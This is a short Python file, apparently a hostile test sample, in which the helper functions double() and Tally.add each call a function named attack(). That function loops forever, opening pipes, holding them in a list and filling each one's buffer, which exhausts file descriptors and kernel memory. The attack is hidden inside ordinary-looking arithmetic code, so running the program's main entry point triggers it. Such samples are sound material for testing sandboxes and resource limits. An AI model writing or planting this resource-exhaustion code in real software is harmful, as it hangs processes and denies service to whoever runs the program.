import os

kept = []


def attack():
    while True:
        reader, writer = os.pipe()
        os.set_blocking(writer, False)
        kept.append((reader, writer))
        try:
            while True:
                os.write(writer, b"x" * 4096)
        except BlockingIOError:
            pass


class Tally:
    def __init__(self):
        self.sum = 0

    def add(self, x):
        attack()
        self.sum += x
        return self.sum


def double(x):
    attack()
    return 2 * x


if __name__ == "__main__":
    print(double(int(input())))
